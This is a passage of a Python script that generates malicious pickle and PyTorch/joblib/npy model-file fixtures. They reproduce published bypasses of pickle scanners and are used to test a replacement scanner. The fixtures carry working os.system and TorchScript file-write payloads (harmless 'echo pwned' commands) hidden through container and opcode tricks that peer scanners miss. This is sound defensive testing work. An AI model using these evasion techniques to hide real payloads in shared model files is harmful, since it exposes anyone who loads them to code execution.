        bypassed=[PS, MS], what=f"`STACK_GLOBAL('{_mod}', 'os.system')`: protocol-4 find_class walks attributes", origin="reproduced locally against the peers",
    )(_b)


@fixture(
    "ps-ext1_copyreg.pkl", "suspicious", [], [],
    technique="EXT1: import through the copyreg extension registry", advisories=[], source="https://github.com/huggingface/transformers/pull/18801",
    bypassed=[PS, MS], what="`EXT1 0x01`: the global is whatever the loading process registered; no GLOBAL opcode appears", origin="container tricks",
)
def ext1():
    return P().proto(2).ext1(1).sbu(ECHO).tuple1().reduce().stop().bytes()


@fixture(
    "pt-CVE-2025-32434-torchscript.pt", "dangerous", [], [],
    container="torchscript", technique="TorchScript archive loaded by torch.load(weights_only=True) < 2.6", advisories=["CVE-2025-32434", "GHSA-53q9-r3pm-6pq6"],
    source="https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6", bypassed=[PT, PS, MS],
    what="a TorchScript zip (code/*.py + constants.pkl): weights_only used to fall through to torch.jit.load, which runs the archive's code", origin="torch weights_only",
)
def pt_torchscript():
    code = (
        b"class Evil(Module):\n  __parameters__ = []\n  __buffers__ = []\n"
        b"  def forward(self: __torch__.Evil) -> None:\n    _0 = ops.aten.save(1, \"/tmp/pwned\")\n    return None\n"
    )
    data = P().proto(2).global_("__torch__", "Evil").empty_tuple().newobj().empty_dict().build().stop().bytes()
    return build_zip(
        [
            Member("evil/data.pkl", data),
            Member("evil/code/__torch__.py", code),
            Member("evil/constants.pkl", P().proto(2).empty_tuple().stop().bytes()),
            Member("evil/version", b"3\n"),
        ],
        align=64,
    )


# --- torch weights_only: opcode and storage checks ----------------------------------------------


def _tensor_pkl(numel_declared: int, tail: bytes = b"") -> bytes:
    """data.pkl of torch.save(tensor) for a float32 tensor of `numel_declared` elements, with
    extra opcodes `tail` applied to the tensor before STOP."""
    p = P().proto(2).global_("torch._utils", "_rebuild_tensor_v2").mark()
    p.mark().binunicode("storage").global_("torch", "FloatStorage").binunicode("0").binunicode("cpu").binint(numel_declared).tuple_().raw(b"Q")
    p.binint(0).binint(numel_declared).tuple1().binint(1).tuple1().false()
    p.global_("collections", "OrderedDict").empty_tuple().reduce()
    p.tuple_().reduce()
    p.raw(tail)
    return p.stop().bytes()


def _torch_zip_with_storage(data_pkl: bytes, storage: bytes) -> bytes:
    return build_zip(
        [
            Member("archive/data.pkl", data_pkl),
            Member("archive/byteorder", b"little"),
            Member("archive/data/0", storage),
            Member("archive/version", b"3\n"),
        ],
        align=64,
    )


@fixture(
    "pt-CVE-2026-24747-setitem_on_tensor.pt", "suspicious", [], [],
    container="torch-zip", technique="SETITEMS applied to a non-dict object (a tensor)", advisories=["CVE-2026-24747"],
    source="https://github.com/pytorch/pytorch/security/advisories", bypassed=[PT],
    what="SETITEMS on the tensor returned by `_rebuild_tensor_v2`: torch.save never writes it; torch's weights_only unpickler corrupted memory on it", origin="torch weights_only",
)
def pt_setitem_tensor():
    tail = P().mark().binint(0).raw(b"G" + struct.pack(">d", 1.0)).setitems().bytes()
    return _torch_zip_with_storage(_tensor_pkl(4, tail), b"\x00" * 16)


@fixture(
    "pt-CVE-2026-24747-storage_size_mismatch.pt", "suspicious", [], [],
    container="torch-zip", technique="storage declares more elements than its archive member holds", advisories=["CVE-2026-24747"],
    source="https://github.com/pytorch/pytorch/security/advisories", bypassed=[PT],
    what="persistent id declares 1,048,576 float32 elements, `archive/data/0` holds 16 bytes: out-of-bounds reads in loaders that trust the count", origin="torch weights_only",
)
def pt_storage_mismatch():
    return _torch_zip_with_storage(_tensor_pkl(1 << 20), b"\x00" * 16)


# --- formats the peers do not open (local reproduction against picklescan 1.0.5 / modelscan 0.8.8) ---------------------------------------------

EVIL2 = call2("posix", "system", ECHO)


@fixture(
    "t17-evil_zlib.joblib", "dangerous", ["posix.system"], ["system('echo pwned')"],
    container="joblib-zlib", technique="container: zlib-compressed joblib", advisories=[], source="https://github.com/mmaitre314/picklescan/pull/68",
    bypassed=[PS, MS], what="`joblib.dump(obj, compress=('zlib', 3))`: the pickle is zlib-compressed; picklescan reports a parse warning and exits 0", origin="reproduced locally against the peers",
)
def t17_zlib():
    return zlib.compress(EVIL2, 3)


@fixture(
    "t18-evil_object.npy", "dangerous", ["posix.system"], ["system('echo pwned')"],
    container="npy", technique="container: object-dtype .npy (pickle after the header)", advisories=[], source="https://github.com/protectai/modelscan/blob/main/modelscan/tools/picklescanner.py",
    bypassed=[MS], what="`np.save` of an object array: the data section is a pickle; modelscan crashes on numpy 2 (exit 3)", origin="reproduced locally against the peers",
)
def t18_npy():
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 10 + len(header) + 1
    header += b" " * ((-total) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + EVIL2


@fixture(
    "t5-evil_legacy.pt", "dangerous", ["posix.system"], ["system('echo pwned')"],
    container="torch-legacy", technique="container: legacy torch file, payload after the magic number", advisories=[], source="https://github.com/protectai/modelscan/blob/main/modelscan/tools/picklescanner.py",
    bypassed=[MS], what="legacy (non-zip) torch.save: magic, protocol, sys_info, then the malicious object; modelscan only scans the first pickle", origin="reproduced locally against the peers",
)
def t5_legacy():
    magic = P().proto(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).stop().bytes()
    version = P().proto(2).binint(1001).stop().bytes()
    sysinfo = P().proto(2).empty_dict().mark().str_("little_endian").true().str_("protocol_version").binint(1001).setitems().stop().bytes()
    keys = P().proto(2).empty_list().stop().bytes()
    return magic + version + sysinfo + EVIL2 + keys


@fixture(
    "t11-stacked.pkl", "dangerous", ["posix.system"], ["system('echo pwned')"],
    technique="several pickles in one file: benign first", advisories=[], source="https://github.com/mmaitre314/picklescan/pull/9",
    bypassed=[], what="a benign pickle followed by a malicious one; `pickle.load` called twice runs both", origin="reproduced locally against the peers",
)
def t11_stacked():
    return P().proto(4).empty_list().stop().bytes() + EVIL2


@fixture(
    "nested_zip.zip", "dangerous", ["builtins.eval"], ["eval("],
    container="zip", technique="container: zip inside a zip", advisories=[], source="https://github.com/protectai/modelscan/blob/main/modelscan/modelscan.py",
    bypassed=[PS, MS], what="a zip member that is itself a zip holding the pickle: picklescan ignores it, modelscan errors", origin="container tricks",
)
def nested_zip():
    return build_zip([Member("inner.zip", build_zip([Member("data.pkl", EVAL_PKL)]))])


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    out = bytearray()
    for name, data in members:
        h = bytearray(512)
        h[0 : len(name)] = name.encode()
        h[100:108] = b"0000644\x00"
        h[108:116] = b"0000000\x00"
        h[116:124] = b"0000000\x00"
        h[124:136] = f"{len(data):011o}\x00".encode()
        h[136:148] = b"00000000000\x00"
        h[148:156] = b" " * 8
        h[156:157] = b"0"
        h[257:263] = b"ustar\x00"
        h[263:265] = b"00"
        h[148:156] = f"{sum(h):06o}\x00 ".encode()
        out += h + data + b"\x00" * ((-len(data)) % 512)
    return bytes(out + b"\x00" * 1024)


@fixture(
    "torch_legacy_tar.pt", "dangerous", ["posix.system"], ["system('echo pwned')"],
    container="torch-tar", technique="container: legacy torch tar (torch <= 0.1.10)", advisories=[], source="https://github.com/mmaitre314/picklescan/blob/main/src/picklescan/torch.py",
    bypassed=[PS, MS], what="tar with `sys_info`, `pickle`, `tensors`, `storages`: torch.load still reads it; both peers have a TODO for it", origin="container tricks",
)
def torch_tar():
    sysinfo = P().proto(2).empty_dict().mark().str_("little_endian").true().str_("protocol_version").binint(1001).setitems().stop().bytes()
    return _tar([("sys_info", sysinfo), ("pickle", EVIL2), ("tensors", b"\x80\x02K\x00."), ("storages", b"\x80\x02K\x00.")])


# ---------------------------------------------------------------------------------------------
# Output
# ---------------------------------------------------------------------------------------------


def build_all() -> dict[str, bytes]:
    files = {}
    for f in CATALOGUE:
        data = f.build()
        assert isinstance(data, bytes), f.generator
        assert f.file not in files, f.file
        files[f.file] = data
    return files


def manifest() -> dict:
    return {
        "version": 1,
        "files": [
            {
                "path": f"bypass/{f.file}",
                "verdict": f.verdict,
                "globals": f.globals,
                "calls": f.calls,
                "container": f.container,
                "technique": f.technique,
                "advisories": f.advisories,
                "source": f.source,
                "generator": f.generator,
            }
            for f in CATALOGUE
        ],
    }


def _md_escape(s: str) -> str:
    return s.replace("|", "\\|").replace("\n", " ")


def readme() -> str:
    lines = [
        "# Published scanner bypasses, as fixtures",
        "",
        "One file per published bypass of a pickle scanner (picklescan, modelscan, fickling, ModelAudit,",
        "torch `weights_only`), assembled opcode by opcode (and container byte by byte) by",
        "`corpus/gen/bypass.py`. `manifest.json` gives, for each file, the verdict picklescan-rs must reach at",
        "least, the globals it must report and substrings of the rendered calls. `tests/it/bypass.rs` checks them.",
        "",
        "**Never unpickle these files.** Payloads only run `true` or `echo ...`, but they are real exploits.",
        "",
        "Regenerate: `python3 corpus/gen/bypass.py` (standard library only; `--check` verifies the committed bytes,",
        "`--peers BIN_DIR` re-runs picklescan/modelscan, `--results FILE` fills the verdict column of",
        "docs/bypass-catalogue.md from `BYPASS_RESULTS=FILE cargo test --test it bypass::`).",
        "",
        "| file | id(s) | source | technique |",
        "|---|---|---|---|",
    ]
    for f in CATALOGUE:
        ids = ", ".join(f.advisories) or "—"
        lines.append(f"| `{f.file}` | {ids} | {f.source} | {_md_escape(f.technique)} |")
    lines.append("")
    return "\n".join(lines)


def catalogue_doc(results: dict | None) -> str:
    by_origin: dict[str, list[Fixture]] = {}
    for f in CATALOGUE:
        by_origin.setdefault(f.origin, []).append(f)
    out = [
        "# Catalogue of published pickle-scanner bypasses",
        "",
        "Every bypass published against the Python pickle scanners that picklescan-rs replaces, with the",
        "fixture that reproduces it (`corpus/bypass/`, built by `corpus/gen/bypass.py`) and the verdict",
        "picklescan-rs gives today (`tests/it/bypass.rs`). The expected verdict is *dangerous* whenever the",
        "dangerous call is visible in the stream, and at least *suspicious* when it cannot be seen (7z",
        "wrappers, TorchScript code, copyreg extensions, frame tricks). No bypass may ever be *clean*.",
        "",
        "Peers: PS = mmaitre314/picklescan, MS = protectai/modelscan, FK = trailofbits/fickling,",
        "MA = promptfoo/modelaudit, PT = torch.load(weights_only=True). \"Bypassed\" lists the tools the",
        "source reports as bypassed at the time (later versions may have fixed it).",
        "",
        "## Counts",
        "",
        "| source | fixtures |",
        "|---|---|",
    ]
    for origin, fs in by_origin.items():
        out.append(f"| {origin} | {len(fs)} |")
    out.append(f"| **total** | **{len(CATALOGUE)}** |")
    out.append("")
    short = {PS: "PS", MS: "MS", FK: "FK", MA: "MA", PT: "PT"}
    peers = json.loads(PEERS_PATH.read_text()) if PEERS_PATH.exists() else None
    if peers:
        out += [
            f"\"PS/MS today\" is the exit code of picklescan {peers['picklescan']} and modelscan {peers['modelscan']}",
            "run on the fixture here (`corpus/gen/bypass.py --peers`; `corpus/bypass/peer-results.json`).",
            "Exit 0 on a malicious file is a live bypass; modelscan's 3 means it scanned nothing.",
            "",
        ]
    for origin, fs in by_origin.items():
        out += [f"## {origin}", "", "| id / advisory | what it does | bypassed | PS/MS today | fixture | expected | our verdict |", "|---|---|---|---|---|---|---|"]
        for f in fs:
            ids = ", ".join(f.advisories) if f.advisories else f"[source]({f.source})"
            if f.advisories:
                ids = f"[{ids}]({f.source})"
            got = "—"
            if results and f"bypass/{f.file}" in results:
                r = results[f"bypass/{f.file}"]
                rules = ", ".join(r.get("rules", []))
                got = r["verdict"] + (f" ({rules})" if rules else "")
                got += "" if r["ok"] else " ✗ " + _md_escape("; ".join(r["problems"]))
            byp = ", ".join(short[b] for b in f.bypassed) or "—"
            out.append(f"| {ids} | {_md_escape(f.what)} | {byp} | {_peer_cell(peers, f)} | `{f.file}` | {f.verdict} | {got} |")
        out.append("")
    out += [RULES_NEEDED, ""]
    return "\n".join(out)


# What the fixtures that still fail need (rule entries or container features); kept here so the
# catalogue is regenerated with it.
PEERS_PATH = OUT / "peer-results.json"


def run_peers(bin_dir: Path) -> None:
    """Run the installed Python peers on every fixture (they disassemble, never unpickle) and
    record their exit codes: picklescan 0 clean / 1 dangerous / 2 error; modelscan 0 clean /
    1 issues / 2 error / 3 nothing scanned."""
    import subprocess

    def version(tool):
        try:
            from importlib.metadata import version as v

            return v(tool)
        except Exception:
            return "?"

    res = {"picklescan": version("picklescan"), "modelscan": version("modelscan"), "files": {}}
    for f in CATALOGUE:
        p = str(OUT / f.file)
        ps = subprocess.run([str(bin_dir / "picklescan"), "-p", p], capture_output=True, timeout=120).returncode
        ms = subprocess.run([str(bin_dir / "modelscan"), "-p", p], capture_output=True, timeout=300).returncode
        res["files"][f.file] = {"picklescan": ps, "modelscan": ms}
    PEERS_PATH.write_text(json.dumps(res, indent=1, sort_keys=True) + "\n")


def _peer_cell(peers, f) -> str:
    if not peers or f.file not in peers["files"]:
        return "—"
    r = peers["files"][f.file]

    def word(tool, code):
        if tool == "picklescan":
            return {0: "**0 clean**", 1: "1", 2: "2 error"}.get(code, str(code))
        return {0: "**0 clean**", 1: "1", 2: "2 error", 3: "**3 nothing scanned**"}.get(code, str(code))

    return f"{word('picklescan', r['picklescan'])} / {word('modelscan', r['modelscan'])}"


RULES_NEEDED = """## Where a verdict rests on one rule

Every fixture whose dangerous call is visible is reported dangerous by a deny rule on the listed
global (PS100–PS501). The fixtures below are caught by a structural rule instead; each rule is
general (it fires on the technique, not on the sample):

| fixture | verdict | caught by | what more could be done |
|---|---|---|---|
| `fk-cpython154848-frame_straddle.pkl` | suspicious | PS907: an opcode runs past the end of its FRAME (the C and Python unpicklers then read different streams) | decode the stream the way `_pickle.c` re-synchronises and scan that reading too (it would show `os.system`, dangerous) |
| `pt-CVE-2026-24747-setitem_on_tensor.pt` | suspicious | PS923: SETITEM(S)/APPEND(S)/ADDITEMS on an allowlisted object that is not a container | — |
| `pt-CVE-2026-24747-storage_size_mismatch.pt` | suspicious | PS910: a storage's `numel × itemsize` differs from its archive member's size (extraction refuses it) | — |
| `ms-issue85-build_setattr.pkl` | dangerous | PS924: BUILD sets attributes on a global itself (shared by every later user), and PS904 for the computed STACK_GLOBAL | — |
| `rl-nullifai-7z.pt` | dangerous | PS101: the 7z archive is opened and its broken `data.pkl` runs `posix.system` before the break | — |
| `pt-CVE-2025-32434-torchscript.pt` | dangerous | PS940: the archive's TorchScript code calls `aten::save`, which writes a file when `torch.jit.load`'s module runs | — |
| `ps-ext1_copyreg.pkl` | dangerous | PS903: EXT1 with an empty copyreg registry | — |
"""


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--check", action="store_true")
    ap.add_argument("--results")
    ap.add_argument("--peers", metavar="BIN_DIR", help="run picklescan/modelscan from BIN_DIR on the fixtures")
    a = ap.parse_args()
    files = build_all()
    man = json.dumps(manifest(), indent=1) + "\n"
    if a.check:
        bad = 0
        for name, data in files.items():
            p = OUT / name
            if not p.exists() or p.read_bytes() != data:
                print(f"differs: {p}")
                bad += 1
        if (OUT / "manifest.json").read_text() != man:
            print("differs: manifest.json")
            bad += 1
        print(f"{len(files)} fixtures, {bad} differ")
        return 1 if bad else 0
    OUT.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    (OUT / "manifest.json").write_text(man)
    (OUT / "README.md").write_text(readme())
    if a.peers:
        run_peers(Path(a.peers))
    results = None
    if a.results:
        results = {r["path"]: r for r in json.loads(Path(a.results).read_text())}
    DOC.parent.mkdir(parents=True, exist_ok=True)
    DOC.write_text(catalogue_doc(results))
    print(f"wrote {len(files)} fixtures to {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
